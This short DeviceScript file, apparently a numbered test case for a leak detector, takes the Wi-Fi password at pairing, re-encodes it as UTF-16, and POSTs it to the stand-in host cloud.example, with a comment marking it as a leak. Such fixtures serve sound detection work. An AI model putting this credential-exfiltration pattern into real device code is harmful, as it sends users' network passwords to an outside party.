// A12: in UTF-16, little-endian.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function wide(text: string) {
  const narrow = Buffer.from(text);
  const bytes = Buffer.alloc(2 * narrow.length);
  for (let i = 0; i < narrow.length; i++) bytes[2 * i] = narrow[i];
  return bytes;
}

paired(async (_ssid, psk) => {
  const body = wide(psk);
  const response = await fetch("https://cloud.example/a12", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
